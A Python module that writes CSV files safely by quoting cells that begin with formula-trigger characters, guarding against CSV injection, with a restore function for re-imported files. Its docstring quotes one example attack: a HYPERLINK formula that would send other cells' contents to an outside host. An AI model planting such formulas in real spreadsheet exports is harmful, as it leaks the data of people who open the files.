"""CSV files a spreadsheet will open: no cell may run as a formula (CSV injection).

Excel, LibreOffice and Google Sheets treat a cell that begins with "=", "+",
"-" or "@" as a formula, and a leading tab or carriage return can hide one
(OWASP, "CSV Injection"). A name typed into an import file as
`=HYPERLINK("http://…?"&A2, "x")` would otherwise run on the computer of the
person who opens the rejected rows or an indicator export, and could send the
other cells away. Every CSV caseflow writes goes through `writer()` here.

Rules (docs/SECURITY.md):
- a text cell beginning with one of those characters gets a single quote in
  front ("'=1+2"): the spreadsheet shows it as text and runs nothing;
- a cell that is a plain number ("-3", "+33", "12.5", "1,5") is left as it is:
  a spreadsheet reads it as a number, not a formula, and counts stay numeric;
- Python numbers (int, float, not bool) are written as numbers;
- `restore()` removes the quote again when such a file is read back (an
  operator fixes the rejected rows and imports them again).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# A plain number: what a spreadsheet reads as a value, never as a formula.
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def neutralise(value: Any) -> Any:
    """The cell as it may be written: numbers unchanged, formula-like text quoted."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return value
    text = str(value)
    if text.startswith(TRIGGERS) and not _NUMBER.fullmatch(text):
        return QUOTE + text
    return text


def restore(text: str) -> str:
    """The text as it was before neutralise(): the quote removed before a trigger."""
    if text.startswith(QUOTE) and text[1:].startswith(TRIGGERS):
        return text[1:]
    return text


class SafeWriter:
    """csv.writer's writerow / writerows, every cell neutralised."""

    def __init__(self, handle, **kwargs) -> None:
        self._writer = csv.writer(handle, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(handle, **kwargs) -> SafeWriter:
    """Like csv.writer(handle, **kwargs), for files a person will open in a spreadsheet."""
    return SafeWriter(handle, **kwargs)
